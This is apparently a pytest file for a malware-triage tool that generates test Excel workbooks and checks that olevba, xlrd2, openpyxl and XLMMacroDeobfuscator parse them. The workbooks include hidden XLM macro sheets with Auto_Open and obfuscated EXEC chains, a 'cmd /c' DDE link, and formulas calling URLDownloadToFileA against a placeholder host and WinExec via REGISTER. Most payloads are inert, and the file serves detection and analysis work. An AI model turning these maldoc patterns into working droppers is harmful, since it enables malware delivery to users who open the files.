"""The Excel writer, read by olefile, olevba, openpyxl, xlrd2 and XLMMacroDeobfuscator."""

import contextlib
import hashlib
import io
import re
import struct
import warnings
import zipfile

import olefile
import openpyxl
import pytest

from emotriage.testing.archive import DEFECTS as ZIP_DEFECTS
from emotriage.testing.biff8 import DEFECTS as WORKBOOK_DEFECTS
from emotriage.testing.compound_defects import DEFECTS as CONTAINER_DEFECTS
from emotriage.testing.excel_functions import functions
from emotriage.testing.ovba import DEFECTS as VBA_DEFECTS
from emotriage.testing.ptg import compile_formula, place
from emotriage.testing.workbook import workbook

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    import xlrd2
    from oletools import oleobj
    from oletools.olevba import VBA_Parser
    from XLMMacroDeobfuscator.deobfuscator import process_file
    from xlrd2.formula import func_defs

FORMATS = ["xls", "xlsx", "xlsm"]
OOXML = ["xlsx", "xlsm"]
SHEETS = {
    "Sheet1": {"A1": 1.5, "B1": "text", "A2": True, "C3": -7, "D4": "'=no formula", "E5": "表"},
    "More & more": {"Z300": 2**40, "A1": '=1+2&"x"'},
}
XLM = {"Macro1": {"A1": '=EXEC("emotriage-inert")', "A2": "=HALT()"}}
AUTO = {"Auto_Open": "Macro1!$A$1"}


def deobfuscated(data: bytes, tmp_path, suffix: str) -> str:
    path = tmp_path / f"sample.{suffix}"
    path.write_bytes(data)
    with warnings.catch_warnings(), contextlib.redirect_stdout(io.StringIO()):
        warnings.simplefilter("ignore")
        return "\n".join(
            process_file(file=str(path), silent=True, noninteractive=True, return_deobfuscated=True, timeout=30)
        )


@pytest.mark.parametrize("format_", ["xls", "xlsm"])
def test_xlm_is_found_and_emulated(format_, tmp_path):
    data = workbook(format=format_, sheets=SHEETS, xlm=XLM, names=AUTO, state={"Macro1": "veryhidden"})
    assert 'EXEC("emotriage-inert")' in deobfuscated(data, tmp_path, format_)


@pytest.mark.parametrize("format_", ["xls", "xlsm"])
def test_strings_built_from_pieces_are_emulated(format_, tmp_path):
    xlm = {
        "Macro1": {
            "A1": '=FORMULA.FILL("=EXEC("&CHAR(34)&B1&B2&CHAR(34)&")",A3)',
            "A2": "=IF(1=1,GOTO(A3),HALT())",
            "A3": "",
            "A4": "=HALT()",
            "B1": '=MID("xxemotriage",3,9)',
            "B2": '=CONCATENATE("-","inert")',
        }
    }
    found = deobfuscated(workbook(format=format_, xlm=xlm, names=AUTO), tmp_path, format_)
    assert "EXEC" in found
    assert "emotriage-inert" in found


@pytest.mark.parametrize("format_", OOXML)
def test_openpyxl_reads_the_cells(format_):
    data = workbook(
        format=format_, sheets=SHEETS, xlm=XLM, names=AUTO, state={"Macro1": "veryhidden"}, properties={"title": "T"}
    )
    book = openpyxl.load_workbook(io.BytesIO(data), keep_vba=True)
    assert book.sheetnames == ["Sheet1", "More & more", "Macro1"]
    assert book["Macro1"].sheet_state == "veryHidden"
    found = {
        name: {cell.coordinate: cell.value for row in book[name] for cell in row if cell.value is not None}
        for name in SHEETS
    }
    assert found["Sheet1"] == {**SHEETS["Sheet1"], "D4": "=no formula"}
    assert found["More & more"] == SHEETS["More & more"]
    assert book.defined_names["_xlnm.Auto_Open"].attr_text == "Macro1!$A$1"
    assert book.properties.title == "T"


def opened(data: bytes) -> xlrd2.Book:
    return xlrd2.open_workbook(file_contents=data, formatting_info=True, logfile=io.StringIO())


@pytest.mark.parametrize("limit", [8224, 20])
def test_xlrd2_reads_the_cells(limit):
    long = {"Sheet2": {"A1": "x" * 500, "A2": "表" * 300, "A3": "x" * 500, "A4": ""}}
    book = opened(workbook(sheets={**SHEETS, **long}, xlm=XLM, names=AUTO, string_limit=limit))
    assert book.sheet_names() == ["Sheet1", "More & more", "Sheet2", "Macro1"]
    first = book.sheet_by_index(0)
    cells = {"A1": 1.5, "B1": "text", "A2": 1, "C3": -7, "D4": "=no formula", "E5": "表"}
    assert {name: first.cell(*place(name)).value for name in cells} == cells
    assert book.sheet_by_index(1).cell(299, 25).value == 2**40
    third = book.sheet_by_index(2)
    assert [third.cell(row, 0).value for row in range(4)] == list(long["Sheet2"].values())


def records(data: bytes, stream: str = "Workbook") -> list[tuple[int, bytes]]:
    with olefile.OleFileIO(io.BytesIO(data)) as file:
        raw = file.openstream(stream).read()
    out, at = [], 0
    while at < len(raw):
        number, length = struct.unpack_from("<HH", raw, at)
        out.append((number, raw[at + 4 : at + 4 + length]))
        at += 4 + length
    return out


def test_sheet_list_and_substreams():
    data = workbook(sheets={"S": {}}, xlm=XLM, state={"Macro1": 0xFE}, stream="Book")
    found = records(data, "Book")
    assert [(one[4], one[5], one[8:].decode()) for number, one in found if number == 0x85] == [
        (0, 0, "S"),
        (0xFE, 1, "Macro1"),
    ]
    assert [struct.unpack_from("<H", one, 2)[0] for number, one in found if number == 0x809] == [5, 0x10, 0x40]
    with olefile.OleFileIO(io.BytesIO(data)) as file:
        raw = file.openstream("Book").read()
        assert file.root.clsid == "00020820-0000-0000-C000-000000000046"
    for number, one in found:
        if number == 0x85:
            assert raw[struct.unpack_from("<I", one)[0] :][:2] == b"\x09\x08"


def test_names_in_all_their_forms():
    names = {
        "Auto_Open": "Macro1!$A$1",
        "Auto_Close": "Macro1!$A$2",
        "cmd": '="emotriage-inert"',
        "表": "Macro1!$A$1:$B$2",
    }
    data = workbook(xlm=XLM, names=names, hidden_names=["cmd"], name_scopes={"表": "Macro1"})
    found = [one for number, one in records(data) if number == 0x18]
    assert [(one[0], one[3], struct.unpack_from("<H", one, 8)[0]) for one in found] == [
        (0x20, 1, 0),
        (0x20, 1, 0),
        (1, 3, 0),
        (0, 1, 2),
    ]
    assert [one[14:16] for one in found] == [b"\0\1", b"\0\2", b"\0c", b"\1\x68"]
    assert found[0][16:] == bytes.fromhex("3a 0100 0000 0000".replace(" ", ""))
    assert found[2][18:] == b"\x17\x0f\0emotriage-inert"
    plain = [one for number, one in records(workbook(xlm=XLM, names=AUTO, plain_names=True)) if number == 0x18]
    assert plain[0][14:24] == b"\0Auto_Open"
    with zipfile.ZipFile(
        io.BytesIO(workbook(format="xlsm", xlm=XLM, names=names, hidden_names=["cmd"], name_scopes={"表": "Macro1"}))
    ) as file:
        xml = file.read("xl/workbook.xml").decode()
    assert '<definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>' in xml
    assert '<definedName name="cmd" hidden="1">&quot;emotriage-inert&quot;</definedName>' in xml
    assert '<definedName name="表" localSheetId="1">' in xml


@pytest.mark.parametrize(
    ("formula", "tokens"),
    [
        ('=EXEC("a")', "17 01 00 61 42 01 6e00"),
        ("=1+2*3", "1e 0100 1e 0200 1e 0300 05 03"),
        ("=(1.5)&-A1%", "1f 000000000000f83f 15 44 0000 00c0 14 13 08"),
        ("=RUN($B$2)", "24 0100 0100 42 01 1180"),
        ("=FORMULA(Macro1!A1,B2:C3)", "5a 0000 0000 00c0 25 0100 0200 01c0 02c0 42 02 6080"),
        ("=CHAR(65)", "1e 4100 41 6f00"),
        ('=SET.NAME("x",TRUE)', "17 01 00 78 1d 01 42 02 5800"),
        ("=IF(A1,1,2)", "44 0000 00c0 19 02 0700 1e 0100 19 08 0a00 1e 0200 19 08 0300 42 03 0100"),
        ("=IF(A1,1)", "44 0000 00c0 19 02 0700 1e 0100 19 08 0300 42 02 0100"),
        ("=ON.TIME(NOW(),,#N/A)", "41 4a00 16 1c 2a 42 03 9480"),
        ("=name<>1", "43 01000000 1e 0100 0e"),
        ("=A5()", "24 0400 00c0 42 01 ff00"),
        ("=name(1)", "23 01000000 1e 0100 42 02 ff00"),
        ('="表"""', "17 02 01 68882200"),
        ("='Macro 2'!$A$1", "5a 0100 0000 0000"),
        ("=GOTO(OFFSET(A1,1,0))", "24 0000 00c0 1e 0100 1e 0000 22 03 4e00 41 3500"),
    ],
)
def test_tokens(formula, tokens):
    found = compile_formula(formula, sheets=["Macro1", "Macro 2"], names=["name"])
    assert found.hex() == tokens.replace(" ", "")


@pytest.mark.parametrize(
    "formula",
    [
        "=",
        "=1+",
        "=EXEC(",
        "=NO.SUCH(1)",
        "=nowhere",
        "=CHAR()",
        "=Sheet9!A1",
        "=ZZ99999",
        "=1 1",
        "=~",
        f'="{"x" * 256}"',
    ],
)
def test_what_is_not_understood_is_refused(formula):
    with pytest.raises(ValueError, match=r"."):
        compile_formula(formula)


def test_function_numbers_are_those_of_xlrd2():
    """The same number, and no fixed count that contradicts it."""
    different = set()
    for name, one in functions().items():
        known = func_defs.get(one.number)
        if known is None or known[0] != name or (one.fixed >= 0 and not known[1] <= one.fixed <= known[2]):
            different.add(name)
    assert different == {"FREAD"}, "whose two arguments xlrd2 takes for one"


def test_xlrd2_decompiles_what_was_compiled():
    formulas = [
        '=CALL("URLMON","URLDownloadToFileA","JJCCBB",0,"http://host.invalid/a","C:\\a",0,0)',
        '=REGISTER("Kernel32","WinExec","JCJ","Run",,1,9)',
        "=GET.WORKSPACE(13)<770",
        "=GET.CELL(38,A1)",
        '=FOPEN("C:\\a.txt",3)',
        "=WHILE(A1<10)",
        "=SET.VALUE(B1,DAY(NOW())+1)",
        "=FILE.DELETE(B1)",
        "=APP.MAXIMIZE()",
        '=ALERT("hello",2)',
    ]
    book = opened(workbook(xlm={"Macro1": {f"A{row}": one for row, one in enumerate(formulas, 1)}}))
    sheet = book.sheet_by_index(1)
    found = [sheet.cell(row, 0).formula for row in range(len(formulas))]
    assert [re.sub(r"(\d)\.0\b", r"\1", one.replace(" ", "").lstrip("=")) for one in found] == [
        one.lstrip("=").replace(" ", "") for one in formulas
    ]


@pytest.mark.parametrize("format_", FORMATS)
def test_olevba_extracts_the_sources(format_):
    macros = {"Module1": 'Sub Auto_Open()\n  Shell "emotriage-inert"\nEnd Sub\n', "ThisWorkbook": "'\n"}
    parser = VBA_Parser(f"x.{format_}", data=workbook(format=format_, macros=macros, sheets=SHEETS))
    found = {}
    for _, _, module, code in parser.extract_macros():
        lines = [line for line in code.split("\r\n") if not line.startswith("Attribute VB_")]
        found[module.rpartition(".")[0] or module] = "\n".join(lines)
    parser.close()
    assert found == {**macros, "Sheet1": "", "Sheet2": ""}


def test_results_embeds_and_links():
    data = workbook(
        xlm={"Macro1": {"A1": "=B1", "A2": "=B2", "A3": "=B3"}},
        results={"Macro1": {"A1": "text", "A2": 2.5}},
        embed={"a.txt": b"inert"},
        dde=[["cmd", "/c emotriage-inert", "A0"]],
    )
    found = records(data)
    assert [one for number, one in found if number == 0x207] == [b"\4\0\0text"]
    assert b"cmd\x03/c emotriage-inert" in b"".join(one for number, one in found if number == 0x1AE)
    with olefile.OleFileIO(io.BytesIO(data)) as file:
        assert oleobj.OleNativeStream(file.openstream("MBD00000001/\1Ole10Native").read()).data == b"inert"
    data = workbook(format="xlsx", embed={"a.txt": b"inert"}, dde=[["cmd", "/c emotriage-inert", "A0"]])
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        assert b'ddeTopic="/c emotriage-inert"' in file.read("xl/externalLinks/externalLink1.xml")
        assert "xl/embeddings/oleObject1.bin" in file.namelist()


def test_international_macro_sheets():
    with zipfile.ZipFile(io.BytesIO(workbook(format="xlsm", xlm=XLM, international=True))) as file:
        assert "xl/macrosheets/intlsheet1.xml" in file.namelist()
        assert b"application/vnd.ms-excel.intlmacrosheet+xml" in file.read("[Content_Types].xml")
        assert b"relationships/xlIntlMacrosheet" in file.read("xl/_rels/workbook.xml.rels")


@pytest.mark.parametrize("format_", FORMATS)
@pytest.mark.parametrize("defect", [*WORKBOOK_DEFECTS, *VBA_DEFECTS, *CONTAINER_DEFECTS, *sorted(ZIP_DEFECTS)])
def test_defects_reach_their_writer(format_, defect):
    binary = format_ == "xls"
    other = ZIP_DEFECTS - CONTAINER_DEFECTS.keys() if binary else WORKBOOK_DEFECTS
    arguments = {"format": format_, "sheets": SHEETS, "xlm": XLM, "macros": {"Module1": "'"}}
    if defect in other:
        with pytest.raises(ValueError, match=defect):
            workbook(**arguments, defects=[defect])
        return
    if not binary:
        arguments["zip"] = {"descriptor": True, "zip64": defect.startswith("zip64")}
    assert workbook(**arguments, defects=[defect]) != workbook(**arguments)


def test_what_is_wrong_is_refused():
    for arguments in (
        {"state": {"Nowhere": "hidden"}},
        {"state": {"Sheet1": "gone"}},
        {"sheets": {"S": {"1A": 1}}},
    ):
        with pytest.raises(ValueError, match=r"."):
            workbook(**arguments)
    with pytest.raises(ValueError, match="tokens"):
        workbook(format="xlsm", xlm={"Macro1": {"A1": b"\x16"}})


def test_bytes_are_the_same_everywhere():
    digest = hashlib.sha256()
    for format_ in FORMATS:
        digest.update(workbook(format=format_, sheets=SHEETS, xlm=XLM, names=AUTO, macros={"Module1": "'"}))
    assert digest.hexdigest() == "f34a591c11abcfc57ae2493fb13fcfe8c518d3df098a0ef47058311713f5749d"
